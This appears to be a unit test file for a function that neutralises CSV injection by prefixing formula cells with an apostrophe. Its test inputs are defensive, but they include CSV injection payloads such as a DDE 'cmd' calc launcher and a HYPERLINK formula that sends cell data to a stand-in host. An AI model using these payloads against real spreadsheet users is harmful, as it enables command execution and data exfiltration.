/**
 * Security review, finding 4: a CSV cell starting with `=`, `+`, `-`, `@`, tab or CR would run as
 * a formula in a spreadsheet; downloads make such cells text with a leading `'`, and change no
 * other byte.
 */
import { neutraliseCsv } from '../../../apps/api/src/attachments/csv-neutralise.js';

const run = (csv: string): string => neutraliseCsv(Buffer.from(csv, 'utf8')).toString('utf8');

describe('CSV formula cells are never served live (CSV injection)', () => {
  it.each([
    ['=', "项目,数量\n=cmd|' /C calc'!A0,1\n", "项目,数量\n'=cmd|' /C calc'!A0,1\n"],
    ['+', 'a,+1+cmd|x!A0\n', "a,'+1+cmd|x!A0\n"],
    ['-', 'a,-2+3+cmd|x!A0\n', "a,'-2+3+cmd|x!A0\n"],
    ['@', 'a,@SUM(1+1)*cmd|x!A0\n', "a,'@SUM(1+1)*cmd|x!A0\n"],
    ['= in the first cell', '=HYPERLINK("http://evil.example?"&A2,"点击"),b\n', '\'=HYPERLINK("http://evil.example?"&A2,"点击"),b\n'],
    ['= after spaces', 'a,  =1+1\n', "a,'  =1+1\n"],
    ['= after a UTF-8 BOM', '\uFEFF=1+1,b\n', "\uFEFF'=1+1,b\n"],
    ['quoted: the quote stays first', 'a,"=HYPERLINK(""http://evil"")"\n', 'a,"\'=HYPERLINK(""http://evil"")"\n'],
    ['quoted, starting with a tab', 'a,"\t=1+1"\n', 'a,"\'\t=1+1"\n'],
    ['quoted, starting with CR', 'a,"\r=1+1"\n', 'a,"\'\r=1+1"\n'],
    ['after a tab (TSV, or a tab-prefixed cell)', 'a\t=1+1\n', "a\t'=1+1\n"],
    ['after a semicolon (another locale splits there)', 'a;=1+1\n', "a;'=1+1\n"],
    ['after CRLF', 'a,b\r\n=1+1,c\r\n', "a,b\r\n'=1+1,c\r\n"],
    ['after a lone CR', 'a,b\r@x,c', "a,b\r'@x,c"],
    ['the last cell without a line end', 'a,=1', "a,'=1"],
  ])('%s', (_name, csv, expected) => {
    expect(run(csv)).toBe(expected);
  });

  it('prefixes every formula cell of a row', () => {
    expect(run('=1,+x,-y,@z,"=2"\n')).toBe("'=1,'+x,'-y,'@z,\"'=2\"\n");
  });

  it('changes no other byte: the same buffer comes back when nothing is a formula', () => {
    const csv = Buffer.from('项目,线上,线下\n参与人数,180,260\n"含,逗号","含""引号""",a=b\n费用,1+1,x@y.z\n', 'utf8');
    expect(neutraliseCsv(csv)).toBe(csv);
  });

  it('keeps plain numbers and a lone dash (negative amounts, phone numbers, placeholders)', () => {
    const csv = '项目,金额\n退款,-120.50\n调整,+3\n税率,-5%\n科学,-3e2\n千分,"-1,234.5"\n空,-\n电话,+8613800000000\n';
    expect(run(csv)).toBe(csv);
  });

  it('a quoted cell with separators and line breaks inside stays one cell', () => {
    expect(run('"a,=b\n=c",=d\n')).toBe('"a,=b\n=c",\'=d\n');
  });

  it('an unterminated quote does not throw', () => {
    expect(run('a,"=1')).toBe('a,"\'=1');
  });
});
